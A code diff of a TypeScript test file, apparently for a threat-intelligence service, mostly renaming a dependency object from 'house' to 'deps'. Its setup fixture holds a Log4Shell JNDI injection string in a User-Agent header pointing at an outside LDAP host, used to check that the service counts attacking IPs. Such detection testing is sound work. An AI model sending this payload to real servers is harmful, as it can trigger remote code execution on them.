@@ -44,10 +44,10 @@ const put = (path: string, body: RequestInit['body'], headers?: Record<string, s
 
 beforeAll(async () => {
   inside = await openInside()
-  const { house } = inside
+  const { deps } = inside
   const now = Date.now()
-  const workspace = await createWorkspace(house.db, { name: 'Own', publish: true, now })
-  key = (await createKey(house.db, { workspace: workspace.id, role: 'operator', now })).secret
+  const workspace = await createWorkspace(deps.db, { name: 'Own', publish: true, now })
+  key = (await createKey(deps.db, { workspace: workspace.id, role: 'operator', now })).secret
   for (const [name, sample] of Object.entries(samples)) {
     // The real ones are larger: what is too small to be one of them is refused, and taken by an operator's word alone.
     const { status } = await put(`/api/sources/${name}`, sample.content)
@@ -57,7 +57,7 @@ beforeAll(async () => {
   const jndi = { uri: '/', userAgent: '${jndi:ldap://203.0.113.5/a}' }
   const visits = [webVisit('198.18.7.1', jndi, now - 60_000), webVisit('198.18.7.2', jndi, now - 70_000)]
   await post('/api/ingest/captures', new Uint8Array(captureOf(visits)))
-  await house.drained()
+  await deps.drained()
   for (let wait = 0; wait < 300; wait++) {
     const { body } = await get(`/v1/cve/${log4shell}`)
     if (JSON.stringify(body).includes('"threat_ip_count_1d":2')) break
@@ -67,7 +67,7 @@ beforeAll(async () => {
 afterAll(() => inside.close())
 
 const ctx = (cveInsight: InsightLevel) =>
-  ctxFor(inside.house, {
+  ctxFor(inside.deps, {
     scope: { kind: 'visitor', plan: { ...visitorPlan, cveInsight } },
     signal: new AbortController().signal,
   })
